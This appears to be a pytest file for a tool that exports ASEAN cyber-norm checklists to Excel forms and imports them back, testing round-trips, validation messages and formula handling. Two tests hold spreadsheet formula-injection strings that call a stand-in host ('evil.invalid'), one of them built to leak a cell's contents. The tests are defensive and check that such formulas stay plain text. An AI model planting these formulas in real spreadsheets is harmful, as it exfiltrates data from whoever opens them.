"""Spreadsheet forms both ways: blank export-import equals `init`; what is typed is exactly what comes back."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from normcheck import yamlio
from normcheck.blank import blank_assessment
from normcheck.catalog import Catalog
from normcheck.errors import InputError, UsageError
from normcheck.models.assessment import Assessment
from normcheck.sheets import MAX_CELL, export_form, import_form

TODAY = dt.date(2026, 11, 22)
KEY = ("asean-nic", "2024.1")


@pytest.fixture(scope="module")
def form(catalog: Catalog) -> bytes:
    checklist = catalog.checklists[KEY].value
    return export_form(checklist, catalog.norm_sets[checklist.norms].value, catalog.model(), "THA", TODAY)


@pytest.fixture(scope="module")
def checklists(catalog: Catalog) -> dict[tuple[str, str], Any]:
    return {k: v.value for k, v in catalog.checklists.items()}


def fill(form: bytes, cells: dict[tuple[str, str], Any], *, as_text: bool = True) -> bytes:
    """Type into the form as a person would into its text-formatted cells (as_text) or into any cell (formulas)."""
    wb = openpyxl.load_workbook(io.BytesIO(form))
    for (sheet, ref), value in cells.items():
        cell = wb[sheet][ref]
        cell.value = value
        if as_text and isinstance(value, str):
            cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def errors_of(data: bytes, checklists: dict[tuple[str, str], Any]) -> list[str]:
    with pytest.raises(InputError) as info:
        import_form(data, "form.xlsx", checklists)
    return [str(i) for i in info.value.issues]


def test_the_form_has_its_sheets_locked_columns_and_drop_downs(form: bytes) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(form))
    assert wb.sheetnames == ["Instructions", "About", "Responses", "Evidence", "Norms", "Lists"]
    assert wb["Lists"].sheet_state == "hidden"
    responses = wb["Responses"]
    assert [c.value for c in responses[1]] == ["Item", "Norm", "Tier", "Category", "Action",
                                               "What counts as evidence", "Status", "Notes", "Why not applicable"]
    assert [responses["A2"].value, responses["B2"].value, responses["C2"].value] == [
        "asean-a-01", "(a) Cooperate to make ICT use stable and secure", 1]
    assert responses.max_row == 89
    assert responses.protection.sheet
    assert responses["E2"].protection.locked
    assert not responses["G2"].protection.locked
    assert not responses["H2"].protection.locked
    [status] = [v for v in responses.data_validations.dataValidation if "G2" in str(v.sqref)]
    assert (status.type, status.formula1, str(status.sqref)) == ("list", "=Lists!$B$2:$B$7", "G2:G89")
    assert [wb["Lists"].cell(row=r, column=2).value for r in range(2, 8)] == [
        "not_started", "planned", "partial", "largely", "full", "not_applicable"]
    assert wb["About"]["B2"].value == "THA"
    assert wb["About"]["B5"].value.date() == TODAY
    assert wb["Norms"].max_row == 12
    assert "not_started" in " ".join(str(c.value) for c in wb["Instructions"]["A"])


def test_an_untouched_form_imports_as_a_fresh_init(form: bytes, catalog: Catalog, checklists: Any) -> None:
    imported = import_form(form, "form.xlsx", checklists)
    checklist = catalog.checklists[KEY].value
    init = blank_assessment(checklist, catalog.norm_sets[checklist.norms].value, "THA", TODAY)
    assert imported.assessment == Assessment.model_validate(yamlio.parse(init, "init.yaml").data)
    assert imported.warnings == ()


def test_checklist_text_that_looks_like_a_formula_is_exported_as_text(catalog: Catalog) -> None:
    checklist = catalog.checklists[KEY].value
    hostile = '=HYPERLINK("http://evil.invalid","Click")'
    items = [i.model_copy(update={"text": hostile, "guidance": "#N/A"}) if n == 0 else i
             for n, i in enumerate(checklist.items)]
    data = export_form(checklist.model_copy(update={"items": items}), catalog.norm_sets[checklist.norms].value,
                       catalog.model(), "THA", TODAY)
    cell = openpyxl.load_workbook(io.BytesIO(data))["Responses"]["E2"]
    assert (cell.value, cell.data_type) == (hostile, "s")
    guidance = openpyxl.load_workbook(io.BytesIO(data))["Responses"]["F2"]
    assert (guidance.value, guidance.data_type) == ("#N/A", "s")
    assert b"<f>" not in _sheet_xml(data)


def _replace_in_sheets(data: bytes, old: bytes, new: bytes) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name).replace(old, new))
    return out.getvalue()


def test_checklist_text_too_long_for_a_cell_is_refused_not_cut(catalog: Catalog) -> None:
    checklist = catalog.checklists[KEY].value
    items = [i.model_copy(update={"guidance": "g" * (MAX_CELL + 5)}) if n == 2 else i
             for n, i in enumerate(checklist.items)]
    with pytest.raises(UsageError) as info:
        export_form(checklist.model_copy(update={"items": items}), catalog.norm_sets[checklist.norms].value,
                    catalog.model(), "THA", TODAY)
    assert str(info.value) == ("Responses!F4: a text of 32,772 characters does not fit in a spreadsheet cell "
                               "(32,767 at most); shorten it")


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_a_filled_in_form_gives_back_exactly_what_was_typed(form: bytes, checklists: Any) -> None:
    data = fill(form, {
        ("About", "B5"): dt.datetime(2025, 6, 30), ("About", "B6"): "2024-07-01", ("About", "B7"): "2025-06-30",
        ("About", "B8"): "academia", ("About", "B9"): "Thailand 2025", ("About", "B10"): "yes",
        ("About", "A13"): "National Cyber Agency", ("About", "C13"): "lead",
        ("About", "A14"): "Ministry of Foreign Affairs",
        ("Responses", "G2"): "full", ("Responses", "H2"): "Statement of 2024.\nAnd a second line.",
        ("Responses", "G3"): "Largely Implemented", ("Responses", "G4"): "not_applicable",
        ("Responses", "I4"): "We have no such body.", ("Responses", "H5"): "ความมั่นคงปลอดภัยไซเบอร์ ខ្មែរ ລາວ မြန်မာ",
        ("Evidence", "A2"): "asean-a-01", ("Evidence", "B2"): "Cabinet statement", ("Evidence", "C2"):
        "https://example.org/statement", ("Evidence", "E2"): "statement", ("Evidence", "F2"): dt.datetime(2024, 5, 1),
        ("Evidence", "A3"): "asean-a-01", ("Evidence", "B3"): "Gazette", ("Evidence", "D3"): "Gazette 12/2024",
        ("Evidence", "E3"): "legislation", ("Evidence", "G3"): "restricted",
        ("Norms", "C2"): "A committee meets monthly.", ("Norms", "E3"): "Training for analysts.",
    })
    imported = import_form(data, "form.xlsx", checklists)
    a = imported.assessment
    assert (a.date, a.period and (a.period.start, a.period.end), a.perspective.value, a.title, a.illustrative) == (
        dt.date(2025, 6, 30), (dt.date(2024, 7, 1), dt.date(2025, 6, 30)), "academia", "Thailand 2025", True)
    assert [x.model_dump(exclude_none=True) for x in a.assessors] == [
        {"name": "National Cyber Agency", "role": "lead"}, {"name": "Ministry of Foreign Affairs"}]
    first = a.responses["asean-a-01"]
    assert (first.status, first.notes) == ("full", "Statement of 2024.\nAnd a second line.")
    assert [e.model_dump(exclude_none=True, mode="json") for e in first.evidence] == [
        {"title": "Cabinet statement", "url": "https://example.org/statement", "type": "statement",
         "date": "2024-05-01", "disclosure": "public"},
        {"title": "Gazette", "reference": "Gazette 12/2024", "type": "legislation", "disclosure": "restricted"},
    ]
    assert a.responses["asean-a-02"].status == "largely"
    assert (a.responses["asean-a-03"].status, a.responses["asean-a-03"].justification) == (
        "not_applicable", "We have no such body.")
    assert a.responses["asean-a-04"].notes == "ความมั่นคงปลอดภัยไซเบอร์ ខ្មែរ ລາວ မြန်မာ"
    assert (a.norms["a"].measures_taken, a.norms["b"].assistance_needed) == (
        "A committee meets monthly.", "Training for analysts.")
    assert imported.warnings == ()


TEXT = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=60).map(
    str.strip).filter(bool)
STATUS = st.sampled_from([None, "not_started", "planned", "partial", "largely", "full", "not_applicable"])


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.integers(0, 87), STATUS, st.none() | TEXT, TEXT), min_size=1, max_size=6,
                unique_by=lambda t: t[0]))
def test_typed_answers_round_trip_exactly(form: bytes, checklists: Any, catalog: Catalog,
                                          answers: list[tuple[int, str | None, str | None, str]]) -> None:
    ids = [i.id for i in catalog.checklists[KEY].value.items]
    cells: dict[tuple[str, str], Any] = {}
    for index, status, notes, why in answers:
        row = index + 2
        cells[("Responses", f"G{row}")] = status
        cells[("Responses", f"H{row}")] = notes
        cells[("Responses", f"I{row}")] = why
    imported = import_form(fill(form, cells), "form.xlsx", checklists)
    for index, status, notes, why in answers:
        response = imported.assessment.responses[ids[index]]
        assert (response.status, response.notes, response.justification) == (status, notes, why)


def test_typed_formulas_are_read_as_text_never_calculated(form: bytes, checklists: Any) -> None:
    formula = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")'
    data = fill(form, {("Responses", "H2"): formula, ("Norms", "C2"): "=1+1"}, as_text=False)
    imported = import_form(data, "form.xlsx", checklists)
    assert imported.assessment.responses["asean-a-01"].notes == formula
    assert imported.assessment.norms["a"].measures_taken == "=1+1"
    assert [str(w) for w in imported.warnings] == [
        'form.xlsx:Responses!H2: warning: a formula (=HYPERLINK("http://evil.invalid/?leak...) was read as plain '
        "text, not calculated",
        "form.xlsx:Norms!C2: warning: a formula (=1+1) was read as plain text, not calculated",
    ]


def test_very_long_text_up_to_a_cells_limit_comes_back_whole(form: bytes, checklists: Any) -> None:
    text = ("Lorem ipsum, " * 3000)[: MAX_CELL - 1] + "."
    imported = import_form(fill(form, {("Responses", "H2"): text}), "form.xlsx", checklists)
    assert imported.assessment.responses["asean-a-01"].notes == text
    # No spreadsheet program writes more into a cell, so the longer text has to be put into the file's XML.
    crafted = _replace_in_sheets(fill(form, {("Responses", "H2"): "MARKER"}), b"MARKER", b"x" * (MAX_CELL + 1))
    assert errors_of(crafted, checklists) == [
        "form.xlsx:Responses!H2: the text is 32,768 characters long; a spreadsheet cell holds at most 32,767, so "
        "this file was not saved by a spreadsheet program",
    ]


def test_every_problem_is_reported_at_once_with_its_cell(form: bytes, checklists: Any) -> None:
    data = fill(form, {
        ("About", "B5"): "last June", ("About", "B8"): "goverment",
        ("Responses", "A3"): "asean-a-2", ("Responses", "G4"): "done", ("Responses", "G5"): 3,
        ("Responses", "G6"): "not applicable",
        ("Responses", "A7"): "asean-a-01",
        ("Evidence", "A2"): "asean-z-01", ("Evidence", "B2"): "Act",
        ("Evidence", "A3"): "asean-a-01", ("Evidence", "B3"): "Act", ("Evidence", "C3"): "www.example.org",
        ("Evidence", "E3"): "law",
        ("Evidence", "B4"): "Untitled", ("Evidence", "F4"): "soon",
        ("Norms", "A3"): "z",
    })
    assert errors_of(data, checklists) == [
        "form.xlsx:About!B5: 'last June' is not a date; type it as YYYY-MM-DD, e.g. 2025-06-30",
        "form.xlsx:About!B8: 'goverment' is not a perspective; choose one of: government, private_sector, "
        "civil_society, academia, technical_community, regional_body; did you mean 'government'?",
        "form.xlsx:Responses: warning: no row for 2 item(s): asean-a-02, asean-a-06; they are left unanswered",
        "form.xlsx:Responses!A3: 'asean-a-2' is not an item of asean-nic 2024.1 (was it 'asean-a-02'?); the Item "
        "column must not be edited - restore the id or copy the answers into a fresh form",
        "form.xlsx:Responses!G4: 'done' is not a status; choose one of: not_started, planned, partial, largely, "
        "full, not_applicable",
        "form.xlsx:Responses!G5: '3' is not a status; choose one of: not_started, planned, partial, largely, full, "
        "not_applicable",
        "form.xlsx:Responses!I6: not_applicable needs a reason here: say why the action does not apply",
        "form.xlsx:Responses!A7: item 'asean-a-01' has a second row (the first is row 2); keep one row per item",
        "form.xlsx:Evidence!A2: 'asean-z-01' is not an item of asean-nic 2024.1; did you mean 'asean-k-01'?",
        "form.xlsx:Evidence!C2: give a web address here, or a reference such as a gazette number in the next column",
        "form.xlsx:Evidence!C3: 'www.example.org' is not a web address starting with https://; put a citation in "
        "the Reference column instead",
        "form.xlsx:Evidence!E3: 'law' is not a type of evidence; choose one of: legislation, regulation, strategy, "
        "policy, statement, guideline, procedure, agreement, directory, exercise, report, training, website, other",
        "form.xlsx:Evidence!A4: which item does this document support? choose its id from the list",
        "form.xlsx:Evidence!C4: give a web address here, or a reference such as a gazette number in the next column",
        "form.xlsx:Evidence!F4: 'soon' is not a date; type it as YYYY-MM-DD, e.g. 2025-06-30",
        "form.xlsx:Norms!A3: 'z' is not a norm of asean-nic; the Norm column must not be edited",
    ]


def test_evidence_without_a_type_is_kept_as_other_with_a_warning(form: bytes, checklists: Any) -> None:
    data = fill(form, {("Evidence", "A2"): "asean-a-01", ("Evidence", "B2"): "Act", ("Evidence", "D2"): "No. 1"})
    imported = import_form(data, "form.xlsx", checklists)
    assert imported.assessment.responses["asean-a-01"].evidence[0].type == "other"
    assert [str(w) for w in imported.warnings] == [
        "form.xlsx:Evidence!E2: warning: no type chosen; recorded as 'other'"]


def test_spreadsheet_error_values_are_refused(form: bytes, checklists: Any) -> None:
    assert errors_of(fill(form, {("Responses", "H2"): "#REF!"}, as_text=False), checklists) == [
        "form.xlsx:Responses!H2: the cell shows a spreadsheet error (#REF!); type the value itself"]


def test_what_is_not_a_form_is_refused(form: bytes, checklists: Any) -> None:
    assert errors_of(b"kind: assessment\n", checklists) == [
        "form.xlsx:1:1: not an .xlsx workbook; if it is an .xls, .ods or .csv file, open it in a spreadsheet program "
        "and save it as .xlsx (Excel Workbook)"]
    wb = openpyxl.load_workbook(io.BytesIO(form))
    wb.remove(wb["Evidence"])
    out = io.BytesIO()
    wb.save(out)
    assert errors_of(out.getvalue(), checklists) == [
        "form.xlsx:Evidence: the sheet is missing; this file is not a form made by `normcheck sheet export`, or a "
        "sheet was renamed"]
    assert errors_of(fill(form, {("About", "B4"): "1999.1"}), checklists)[0].startswith(
        "form.xlsx:About!B3: checklist 'asean-nic' version '1999.1' is not known here (known: asean-nic 2024.1")
